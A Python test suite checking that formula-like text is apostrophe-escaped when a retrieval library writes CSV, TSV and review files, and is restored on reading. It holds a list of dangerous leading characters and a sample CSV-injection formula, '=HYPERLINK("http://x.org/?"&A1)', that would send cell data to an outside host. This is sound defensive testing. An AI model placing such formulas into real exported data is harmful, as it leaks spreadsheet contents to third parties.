"""A text that looks like a formula gets an apostrophe in CSV and TSV, and comes back as it was."""

import csv
from importlib.resources import files

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

import opera
from opera.config.arguments import write_table
from opera.data import Mixture
from opera.data.decisions import read_decisions
from opera.data.delimited_tables import FORMULA as START
from opera.data.delimited_tables import with_apostrophes, without_apostrophe_sql
from opera.data.list_matching import with_teacher
from opera.data.relation import Relation
from opera.labels.review import NextStep, ReviewPage
from opera.run_folder.folder import RunWriter

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")
FORMULA = '=HYPERLINK("http://x.org/?"&A1)'


@given(st.lists(st.text(st.sampled_from("'=+-@\t\r\nab\" "), max_size=5) | st.text(max_size=5), max_size=20))
def test_no_written_text_starts_a_formula_and_each_comes_back(relation, texts):
    written = with_apostrophes(pa.table({"text": pa.array(texts, pa.string())}))
    assert not any(text.startswith(DANGEROUS) for text in written["text"].to_pylist())
    relation.db.register("written", written)
    read = relation.execute(f"SELECT {without_apostrophe_sql('text')} FROM written").fetchall()
    assert [text for (text,) in read] == texts


@pytest.fixture(scope="module")
def relation(tmp_path_factory) -> Relation:
    return Relation(tmp_path_factory.mktemp("relation"))


def test_the_review_page_follows_the_same_rule():
    assert f'text.replace(/^{START}/, "\'$&")' in files("opera.labels").joinpath("review.html").read_text()


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_only_texts_get_an_apostrophe(suffix, tmp_path):
    table = pa.table({"query_id": ["-1", "'tis", "'=1"], "score": [-1.5, 2.0, 0.0]})
    write_table(tmp_path / f"table{suffix}", table)
    RunWriter(tmp_path).write_csv("run.csv", table)
    for name, delimiter in ((f"table{suffix}", "," if suffix == ".csv" else "\t"), ("run.csv", ",")):
        with (tmp_path / name).open(newline="") as file:
            rows = list(csv.reader(file, delimiter=delimiter))
        assert [row[0] for row in rows[1:]] == ["'-1", "'tis", "''=1"]
        assert [float(row[1]) for row in rows[1:]] == [-1.5, 2.0, 0.0]


@pytest.fixture
def data() -> opera.RetrievalData:
    pairs = [(f"q{n}", f"d{n}") for n in range(20)]
    queries = {f"q{n}": f"query number {n}" for n in range(20)} | {"=q": FORMULA}
    documents = {f"d{n}": f"document number {n}" for n in range(20)} | {"@d": "'-f' names a file"}
    return opera.load_data(pairs=[*pairs, ("=q", "@d")], queries=queries, documents=documents)


ITEM = {"list": "pairs", "query_id": "=q", "doc_id": "@d", "query": FORMULA, "document": "'-f' names a file"}


def test_decisions_and_scores_come_back(data, tmp_path):
    review = tmp_path / "review.csv"
    ReviewPage("title", "test", {}, [{**ITEM, "first_rank": 0.25}], NextStep("d.csv", "opera")).write(review)
    with review.open(newline="") as file:
        (row,) = csv.DictReader(file)
    assert [row[name] for name in ("query_id", "doc_id", "query", "document", "decision")] == [
        "'=q", "'@d", f"'{FORMULA}", "''-f' names a file", ""
    ]  # fmt: skip
    review.write_text(review.read_text().replace("@d,,test", "@d,wrong,test"))
    for only_test in (True, False):
        decisions, _ = read_decisions(Mixture.of(data), [review], only_test=only_test)
        assert data.queries.ids(decisions.query_rows) == ["=q"]
        assert data.corpus.ids(decisions.doc_rows) == ["@d"]
    scores = pa.table({"query_id": ["=q"], "doc_id": ["@d"], "score": [-2.0]})
    for suffix in (".tsv", ".parquet"):
        write_table(tmp_path / f"scores{suffix}", scores)
        teacher = with_teacher(Mixture.of(data), tmp_path / f"scores{suffix}").joined.teacher
        assert teacher.scores.tolist() == [-2.0]


def test_weak_pairs_come_back_and_tables_of_users_keep_their_apostrophes(tmp_path):
    texts = [f"'-{n}' is a flag" for n in range(5)]
    columns = {"query": [f"=a query {n}" for n in range(5)], "document": texts, "origin": ["title"] * 5}
    write_table(tmp_path / "weak.csv", pa.table(columns))
    assert list(opera.load_data(tmp_path / "weak.csv").corpus.texts(range(5))) == texts
    columns.pop("origin")
    pa.table(columns).to_pandas().to_csv(tmp_path / "mine.csv", index=False)
    mine = opera.load_data(tmp_path / "mine.csv")
    assert list(mine.corpus.texts(range(5))) == texts
    assert mine.queries.texts(range(5))[0] == "=a query 0"
